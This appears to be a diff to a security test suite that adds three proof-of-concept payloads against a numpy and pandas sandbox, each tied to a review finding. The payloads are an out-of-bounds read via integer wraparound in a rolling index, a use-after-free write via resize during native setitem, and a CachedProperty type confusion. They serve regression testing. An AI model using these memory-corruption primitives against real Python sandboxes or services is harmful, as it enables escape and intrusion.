@@ -6642,6 +6642,61 @@ PAYLOADS = [
                 known.append(search(1, 2**63 - 1) if probe(0) else search(-2**63, 0))
             return ["%016x" % (w & (2**64 - 1)) for w in known]
         """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
+    # review 167 F2: the window's sorted copy was checked with np.diff, which
+    # wraps: [-2**63+1, 2**63-1, T...] passed as decreasing while pandas
+    # took it as increasing and read before the copy; a sorted index of
+    # extreme times wraps pandas' own subtraction the same way
+    Payload("pandas-rolling-index-wrapping-times", """
+        import numpy as np
+        import pandas as pd
+        def main(n=12):
+            a = (np.arange(n, dtype="i8") * 10**9).view("M8[ns]")
+            r = pd.Series(np.ones(n), index=pd.DatetimeIndex(a)).rolling("25000D", closed="left")
+            ai = a.view("i8")
+            def le(T):
+                ai[0] = -2**63 + 1
+                ai[1] = 2**63 - 1
+                ai[2:] = T
+                return [len(w) for w in r][2] <= 2
+            lo, hi = -1, 2**63 - 1
+            while lo < hi:
+                mid = (lo + hi) // 2
+                lo, hi = (lo, mid) if le(mid) else (mid + 1, hi)
+            return "%#x" % lo
+        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
+    # review 167 F1: resize() to another size was allowed when only one
+    # reference besides the call's held the array, but that one can be
+    # native numpy's in an outer frame (a[i] = x calling x.__str__), which
+    # then wrote through the old pointer into a bytearray that took the block
+    Payload("numpy-resize-under-native-setitem", """
+        import numpy as np
+        def main():
+            G = [np.zeros(40, dtype="U8")]
+            H = []
+            class X:
+                def __str__(self):
+                    G.pop().resize(100000)
+                    for _ in range(50):
+                        H.append(bytearray(1279))
+                    return "PWNEDPWN"
+            G[0][1] = X()
+            needle = "PWNEDPWN".encode("utf-32-le")
+            hit = [i for i, h in enumerate(H) if needle in h]
+            if hit:
+                return hit
+            raise ValueError("nothing written into freed memory")
+        """, on={GUARD, EXCEPTION}, off={OK, EXCEPTION, CRASH}),
+    # review 167 F3: pandas' own CachedProperty read from its class, held
+    # by a class of the code's, took any self._cache for a dict
+    Payload("pandas-cached-property-instance-in-code-class", """
+        import pandas as pd
+        def main():
+            class C:
+                f = pd.Index.is_unique
+                def __init__(self):
+                    self._cache = []
+            return repr(C().f)
+        """, on={EXCEPTION}, off={OK, EXCEPTION, CRASH}),
     # review 163 F2: np.ndarray(buffer=) released the buffer it got and kept
     # only its exporter: a bytearray grew and freed the memory under the
     # array (a list's item pointers read, a number written as an object)
